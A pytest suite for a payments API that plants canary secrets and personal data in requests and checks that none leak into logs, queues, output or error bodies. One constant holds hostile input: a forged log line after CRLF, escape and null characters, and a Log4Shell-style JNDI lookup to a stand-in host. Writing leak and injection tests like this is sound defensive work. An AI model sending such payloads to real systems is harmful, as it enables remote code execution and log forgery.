"""A canary in every input, looked for in every sink: log lines, metrics, queue messages, bodies of errors."""

from __future__ import annotations

import io
import json
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any, NoReturn

import pytest

import app
from chalicelib import cloud
from chalicelib.api.blueprint import routes
from chalicelib.identity import passwords
from chalicelib.kernel.idempotency import RequestKey
from chalicelib.ledger import service, store
from chalicelib.observability import logger
from tests.api.bad_input_kit import BODIES, allowed, name_of, nobody_answers, path_of
from tests.api.caller import Caller, Reply
from tests.api.topup_kit import stripe_signed
from tests.api.world import World, cheap_passwords, fresh_key
from tests.conftest import (
    PEPPER,
    SANDBOX_WEBHOOK_SECRET,
    SIGNING_KEY,
    STRIPE_WEBHOOK_SECRET,
    FrozenClock,
    urls_of_queues,
)
from tests.environment import mainland

EVIL = 'canary\r\n{"level":"ERROR","message":"forged"}\x1b[31m\x00${jndi:ldap://evil.test/a}\u2028\u2029\u0085%0d%0a'
EMAIL, PHONE = "canary.mail@example.com", "+8613800138000"
PLANTED = {
    "password": "canary-password-1",
    "wrong password": "canary-password-2",
    "new password": "canary-password-3",
    "reset secret": "canary-reset-secret",
    "device token": "cdt_canary-device-token",
    "code": "canary-code",
    "e-mail": EMAIL,
    "local part": "canary.mail",
    "phone": PHONE,
    "national number": "13800138000",
    "name": "Canary Name",
    "sign-up secret": "canary-sign-up-secret",
    "device": "canary-device",
    "pin": "canary-pin",
    "challenge": "canary-challenge",
    "credential": "canary-credential",
    "access token": "canary-access-token",
    "refresh token": "crt_canary-refresh",
    "merchant key": "mk_canarymerchantkey",
    "description": "canary-description",
    "reason": "canary-reason",
    "e-mail in a description": "canary.pay@example.com",
    "phone in a description": "+86 139 0013 9000",
    "e-mail in a reason": "canary.refund@example.com",
    "phone in a reason": "137-0013-7000",
    "user agent": "canary-agent",
    "signature": "canary-signature",
    "webhook body": "canary-webhook",
    "exception": "canary-exception",
    "sandbox secret": SANDBOX_WEBHOOK_SECRET,
    "stripe secret": STRIPE_WEBHOOK_SECRET,
    "key of WeChat Pay": mainland()["coffer"]["wechatpay"]["api_v3_key"],
    "private key for WeChat Pay": mainland()["coffer"]["wechatpay"]["private_key"][100:140],
    "private key for Alipay": mainland()["coffer"]["alipay"]["private_key"][100:140],
    "pepper": PEPPER,
    "signing key": str(SIGNING_KEY.as_dict(private=True)["d"]),
}


SECRET = {"sign_up_secret": PLANTED["sign-up secret"]}
WISH = BODIES["POST /v1/users"] | {"password": PLANTED["password"], "display_name": PLANTED["name"]} | SECRET
EXPECTED = {200: 3, 201: 7, 202: 7, 204: 1, 400: 8, 401: 16, 409: 3, 422: 2, 500: 3}


@pytest.fixture
def log(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """All that is logged from here on."""
    sink = io.StringIO()
    for handler in logger().handlers:
        monkeypatch.setattr(handler, "stream", sink)
    return sink


@pytest.fixture
def world(cloud: None, clock: FrozenClock, monkeypatch: pytest.MonkeyPatch) -> World:
    cheap_passwords(monkeypatch)
    return World(clock)


def bodies_of_queues() -> Iterator[str]:
    for url in urls_of_queues():
        while found := cloud.client("sqs").receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages"):
            yield from (str(message) for message in found)


def test_hostile_fields_and_headers_are_one_escaped_line_each(
    monkeypatch: pytest.MonkeyPatch, clock: FrozenClock, log: io.StringIO
) -> None:
    anybody, sent = nobody_answers(monkeypatch), 0
    for route in routes():
        caller = allowed(anybody, route)
        for name in ("User-Agent", "Accept-Language", "Content-Type", "Idempotency-Key", "Authorization", EVIL):
            event = caller.event(route.method, path_of(route), b"{", caller._headers)
            event["multiValueHeaders"] = {**(event["multiValueHeaders"] or {}), name: [EVIL]}
            event["multiValueQueryStringParameters"] = {EVIL: [EVIL]}
            event["requestContext"] |= {"requestId": EVIL, "identity": {"sourceIp": EVIL, "userAgent": EVIL}}
            assert caller.send(event).status < 500
            sent += 1
    for route in (route for route in routes() if route.body):
        body = dict.fromkeys(BODIES[name_of(route)], EVIL) | {EVIL: EVIL}
        assert allowed(anybody, route).request(route.method, path_of(route), body).status == 422
        sent += 1
    lines = log.getvalue().split("\n")
    assert len(lines) == sent + 1
    assert lines.pop() == ""
    assert all(line.isascii() and line.isprintable() for line in lines)
    assert all(json.loads(line)["message"] == "request" for line in lines)


def enter(world: World) -> Iterator[Reply]:
    """Two people sign up and in with canaries, and get some of it wrong."""
    nobody = world.nobody.with_headers(user_agent=PLANTED["user agent"])
    for identifier in (EMAIL, PHONE):
        proof = {"identifier": identifier, "device_name": PLANTED["device"]} | SECRET
        yield nobody.post("/v1/users", WISH | {"identifier": identifier})
        yield nobody.post("/v1/users/verify", proof | {"code": PLANTED["code"]})
        yield nobody.post("/v1/users/verify", proof | {"code": world.code_of(identifier)})
        yield nobody.post("/v1/users", WISH | {"identifier": identifier})
        for password in ("password", "wrong password"):
            yield nobody.post("/v1/sessions", {"identifier": identifier, "password": PLANTED[password]})
    yield nobody.post("/v1/sessions", {"identifier": EMAIL, "password": PLANTED["password"], "code": PLANTED["code"]})
    yield from forget(world, nobody)
    yield nobody.post("/v1/sessions/refresh", {"refresh_token": PLANTED["refresh token"]})
    for token in ("access token", "refresh token", "merchant key"):
        yield nobody.bearing(PLANTED[token]).get("/v1/me")
        yield nobody.bearing(PLANTED[token]).post("/v1/checkouts", {}, idempotency_key=PLANTED["code"])


def forget(world: World, nobody: Caller) -> Iterator[Reply]:
    """A name is guessed at until it is closed, then its owner sets a new password."""
    for _ in range(5):
        claim = {"identifier": EMAIL, "password": PLANTED["wrong password"], "device_token": PLANTED["device token"]}
        yield nobody.post("/v1/sessions", claim)
    world.sweep()
    world.clock.advance(1)
    secret = {"identifier": EMAIL, "reset_secret": PLANTED["reset secret"]}
    yield nobody.post("/v1/password-resets", secret)
    proof = secret | {"new_password": PLANTED["new password"], "code": PLANTED["code"]}
    yield nobody.post("/v1/password-resets/confirm", proof)
    yield nobody.post("/v1/password-resets/confirm", proof | {"code": world.code_of(EMAIL)})
    measured = {"password": PLANTED["new password"], "hints": [PLANTED["name"]]}
    yield nobody.post("/v1/password-strength", measured)


def beside(field: str) -> str:
    """A text with an address and a number in it."""
    return " ".join(PLANTED[what] for what in (field, f"e-mail in a {field}", f"phone in a {field}"))


def move(world: World) -> Iterator[Reply]:
    """Money moves with canaries beside it, and is refused with them."""
    ana, shop = world.customer(10_000), world.shop
    paid = ana.pay(100, description=beside("description"))
    yield paid
    yield ana.pay(100, description=beside("description"))
    yield ana.pay(99_999, description=beside("description"))
    yield shop.act(paid.json["id"], "refunds", {"amount": 1, "reason": beside("reason")})
    yield shop.act(paid.json["id"], "refunds", {"amount": 999, "reason": beside("reason")})
    yield ana.phone.post("/v1/payments", ana.order(1) | {"pin": PLANTED["code"]}, idempotency_key=fresh_key())
    body = json.dumps({"id": "evt_1", "note": PLANTED["webhook body"]}).encode()
    yield world.nobody.request("POST", "/v1/webhooks/stripe", body, {"Stripe-Signature": PLANTED["signature"]})
    yield world.nobody.request("POST", "/v1/webhooks/stripe", body, stripe_signed(body, secret=PLANTED["code"]))
    yield world.nobody.request("POST", "/v1/webhooks/stripe", body, stripe_signed(body))


def prove(world: World) -> Iterator[Reply]:
    """Second factors are set up and answered with canaries."""
    ana, code = world.customer(), {"code": PLANTED["code"]}
    answer = {"challenge": PLANTED["challenge"], "method": "totp"} | code
    made = {"name": PLANTED["device"], "credential": {"id": PLANTED["credential"]}}
    ana.phone.post("/v1/me/totp", {"password": PLANTED["password"]})
    yield ana.phone.post("/v1/me/totp/confirm", code)
    yield ana.phone.request("PUT", "/v1/me/payment-pin", {"pin": "428571", "current_pin": PLANTED["pin"]})
    yield ana.phone.post("/v1/me/step-up", {"method": "pin", "pin": PLANTED["pin"]})
    yield ana.phone.post("/v1/me/passkeys", made)
    yield world.nobody.post("/v1/sessions/second-factor", answer)
    named = f"/v1/sessions/{ana.tokens['session_id']}"
    yield ana.phone.patch(named, {"device_name": PLANTED["device"]})


def provoke(world: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[Reply]:
    """What breaks with an exception that quotes what was typed."""
    ana = world.customer(1_000)
    for owner, name in ((store, "transact"), (passwords, "hashed"), (RequestKey, "movement_id")):
        with monkeypatch.context() as patch:
            patch.setattr(owner, name, fail)
            yield world.nobody.post("/v1/users", WISH | {"identifier": EMAIL})
            yield ana.pay(1, description=beside("description"))


def fail(*given: Any, **named: Any) -> NoReturn:
    raise ValueError(PLANTED["exception"], given, named)


def test_no_canary_sings_in_a_log_a_metric_a_queue_or_an_error(
    world: World, log: io.StringIO, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    replies = [*enter(world), *move(world), *prove(world), *provoke(world, monkeypatch)]
    assert Counter(reply.status for reply in replies) == EXPECTED
    app.fan_out({"Records": world.new_records()}, None)
    queued = list(bodies_of_queues())
    assert len(queued) >= 3
    sinks = {
        "log": log.getvalue(),
        "output": "".join(capfd.readouterr()),
        "queues": "".join(queued),
        "errors": "".join(reply.raw.decode() for reply in replies if reply.status >= 400),
    }
    for sink, said in sinks.items():
        assert [name for name, canary in PLANTED.items() if canary.lower() in said.lower()] == [], sink


@pytest.mark.parametrize("consumer", ["settle", "fold", "tell"])
def test_a_consumer_that_fails_says_nothing_of_its_message(
    world: World, log: io.StringIO, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, consumer: str
) -> None:
    handler: Callable[..., Any] = getattr(app, consumer)
    record = {"messageId": "m", "receiptHandle": "r", "attributes": {"MessageGroupId": "g"}, "messageAttributes": {}}
    whence = {"eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:eu-west-1:1:q", "awsRegion": "eu-west-1"}
    body = json.dumps({"account": PLANTED["e-mail"], "entries": PLANTED["code"], "entry": PLANTED["phone"]})
    answer = handler({"Records": [record | whence | {"body": body}]}, None)
    assert answer == {"batchItemFailures": [{"itemIdentifier": "m"}]}
    said = log.getvalue() + "".join(capfd.readouterr())
    assert [name for name, canary in PLANTED.items() if canary in said] == []


def test_a_sweep_that_fails_pages_without_quoting(
    world: World, log: io.StringIO, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    world.customer(1_000).pay(100, capture="manual")
    world.clock.advance(8 * 86_400)
    monkeypatch.setattr(service, "commit", fail)
    world.sweep()
    pages = [json.loads(line) for line in log.getvalue().splitlines() if "SweepFailed" in line]
    assert [page["error"] for page in pages] == ["ValueError"]
    said = log.getvalue() + "".join(capfd.readouterr())
    assert [name for name, canary in PLANTED.items() if canary in said] == []
